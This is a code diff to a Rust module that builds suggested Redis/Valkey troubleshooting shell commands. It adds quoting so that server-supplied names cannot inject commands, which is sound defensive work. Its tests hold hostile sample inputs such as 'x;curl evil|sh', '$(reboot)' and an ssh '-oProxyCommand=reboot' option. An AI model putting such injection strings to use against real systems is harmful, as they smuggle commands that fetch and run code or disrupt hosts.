@@ -13,20 +13,20 @@ pub fn next_steps(context: &Context<'_>, decision: &Decision) -> Vec<String> {
         Some(Flavour::Valkey) => "valkey-cli",
         _ => "redis-cli",
     };
-    let at = |endpoint: &Endpoint| format!("{cli} -h {} -p {}", endpoint.host, endpoint.port);
+    let at = |endpoint: &Endpoint| format!("{cli} -h {} -p {}", quoted(&endpoint.host), endpoint.port);
     let local = match &e.address {
         Address::Tcp(endpoint) => at(endpoint),
-        Address::Unix(path) => format!("{cli} -s {}", path.display()),
+        Address::Unix(path) => format!("{cli} -s {}", quoted(&path.to_string_lossy())),
     };
     let primary = e.local_link().map(|link| link.primary.clone());
     let remote = primary.as_ref().map_or_else(|| format!("{cli} -h PRIMARY"), at);
     let sentinel = e.sentinels.first().map_or_else(|| format!("{cli} -p 26379"), |s| at(&s.endpoint));
-    let group = if e.link.group.is_empty() { "MASTER" } else { &e.link.group };
-    let mut steps = by_cause(context, &local, &remote, &sentinel, group);
+    let group = if e.link.group.is_empty() { "MASTER".to_owned() } else { quoted(&e.link.group) };
+    let mut steps = by_cause(context, &local, &remote, &sentinel, &group);
     if let Decision::Hold(refusal) = decision
         && refusal.code == RefusalCode::AttemptsExhausted
     {
-        steps.insert(0, format!("relinkd show {}   # what was tried, and what came of it", e.link.replica));
+        steps.insert(0, format!("relinkd show {}   # what was tried, and what came of it", operand(&e.link.replica)));
     }
     steps.push(format!("relinkd explain {}", context.finding.cause));
     steps
@@ -55,25 +55,25 @@ fn by_cause(c: &Context<'_>, local: &str, remote: &str, sentinel: &str, group: &
         ],
         Cause::AuthForbidden => vec![format!(
             "{remote} ACL SETUSER {} +psync +replconf +ping   # on the primary, and on every node that may become one",
-            user.as_deref().unwrap_or("USER")
+            user.as_deref().map_or("USER".to_owned(), quoted)
         )],
         Cause::PrimaryDown | Cause::PrimaryHung | Cause::PrimaryUnreachable => vec![
             format!("{sentinel} SENTINEL CKQUORUM {group}"),
             format!("{sentinel} SENTINEL REPLICAS {group}   # is there one to promote?"),
             target.map_or_else(
                 || format!("systemctl status {server}"),
-                |p| format!("ssh {} systemctl status {server}", p.host),
+                |p| format!("ssh {} systemctl status {server}", operand(&p.host)),
             ),
         ],
         Cause::NetworkCut | Cause::NetworkRejected => target.map_or_else(Vec::new, |p| {
             vec![
-                format!("nc -vz {} {}   # from this host; then the same from another", p.host, p.port),
+                format!("nc -vz {} {}   # from this host; then the same from another", operand(&p.host), p.port),
                 "nft list ruleset   # on both hosts".to_owned(),
             ]
         }),
         Cause::NameUnresolved => {
             let name = target.or_else(|| e.lookup.as_ref().map(|lookup| lookup.name.clone()));
-            name.map_or_else(Vec::new, |p| vec![format!("getent hosts {}", p.host)])
+            name.map_or_else(Vec::new, |p| vec![format!("getent hosts {}", operand(&p.host))])
         }
         Cause::WrongPrimary | Cause::SelfReplication | Cause::NotAServer | Cause::UpstreamBroken => {
             let named = e.named_primary().map(|(named, _)| named.clone());
@@ -83,7 +83,7 @@ fn by_cause(c: &Context<'_>, local: &str, remote: &str, sentinel: &str, group: &
                 steps.push(format!("{local} --rdb only-here.rdb   # a copy of what only this server has"));
             }
             if let Some(named) = named {
-                steps.push(format!("{local} REPLICAOF {} {}", named.host, named.port));
+                steps.push(format!("{local} REPLICAOF {} {}", quoted(&named.host), named.port));
             }
             steps
         }
@@ -134,7 +134,8 @@ fn about_the_group(c: &Context<'_>, local: &str, remote: &str, sentinel: &str, g
         Cause::TlsCertificate => target.map_or_else(Vec::new, |p| {
             vec![format!(
                 "openssl s_client -connect {}:{} </dev/null | openssl x509 -noout -dates -issuer -subject",
-                p.host, p.port
+                quoted(&p.host),
+                p.port
             )]
         }),
         Cause::CommandMissing => vec![format!(
@@ -142,7 +143,7 @@ fn about_the_group(c: &Context<'_>, local: &str, remote: &str, sentinel: &str, g
         )],
         Cause::ReplconfRefused => vec![format!(
             "{remote} ACL SETUSER {} +replconf +psync +ping   # on the primary, and on every node that may become one",
-            user.as_deref().unwrap_or("USER")
+            user.as_deref().map_or("USER".to_owned(), quoted)
         )],
         _ => Vec::new(),
     }
@@ -157,7 +158,7 @@ fn about_the_servers(e: &Evidence, cause: Cause, local: &str, remote: &str) -> V
             format!("{remote} CONFIG SET repl-diskless-sync yes   # the sync then needs no disk on the primary"),
         ],
         Cause::ReplicaDiskFull => vec![
-            format!("df -h {}", e.settings.seen().map_or("DIR", |s| s.dir.as_str())),
+            format!("df -h {}", e.settings.seen().map_or("DIR".to_owned(), |s| operand(&s.dir))),
             format!(
                 "{local} CONFIG SET repl-diskless-load swapdb   # the sync then needs memory for two copies, and no disk"
             ),
@@ -192,7 +193,7 @@ fn about_the_servers(e: &Evidence, cause: Cause, local: &str, remote: &str) -> V
         }
         Cause::SyncStalled => vec![format!("{local} INFO replication   # master_sync_last_io_seconds_ago")],
         Cause::ReplicaSaveFailing => vec![
-            format!("df -h {}", e.settings.seen().map_or("DIR", |s| s.dir.as_str())),
+            format!("df -h {}", e.settings.seen().map_or("DIR".to_owned(), |s| operand(&s.dir))),
             format!("{local} BGSAVE   # once there is room; then INFO persistence"),
         ],
         Cause::ReplicaDown => {
@@ -215,5 +216,42 @@ fn program(e: &Evidence) -> &'static str {
 }
 
 fn user_flag(user: Option<&str>) -> String {
-    user.map(|user| format!(" --user {user}")).unwrap_or_default()
+    user.map(|user| format!(" --user {}", quoted(user))).unwrap_or_default()
+}
+
+/// One word of a shell's command. Names of hosts, users and directories are what servers say they are.
+fn quoted(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._:/@%+=-".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_owned();
+    }
+    let tame: String = text.chars().map(|c| if c.is_control() { '?' } else { c }).collect();
+    format!("'{}'", tame.replace('\'', "'\\''"))
+}
+
+/// The same where a program would take a word that begins with `-` for an option.
+fn operand(text: &str) -> String {
+    if text.starts_with('-') { format!("-- {}", quoted(text)) } else { quoted(text) }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_server_says_is_one_word_of_the_command_that_a_person_pastes() {
+        for (text, word) in [
+            ("10.0.0.1", "10.0.0.1"),
+            ("fe80::1%eth0", "fe80::1%eth0"),
+            ("/var/lib/redis", "/var/lib/redis"),
+            ("x;curl evil|sh", "'x;curl evil|sh'"),
+            ("$(reboot)", "'$(reboot)'"),
+            ("it's", "'it'\\''s'"),
+            ("a\nb\u{1b}[2J", "'a?b?[2J'"),
+            ("", "''"),
+        ] {
+            assert_eq!((quoted(text), operand(text)), (word.to_owned(), word.to_owned()));
+        }
+        assert_eq!(operand("-oProxyCommand=reboot"), "-- -oProxyCommand=reboot");
+    }
 }
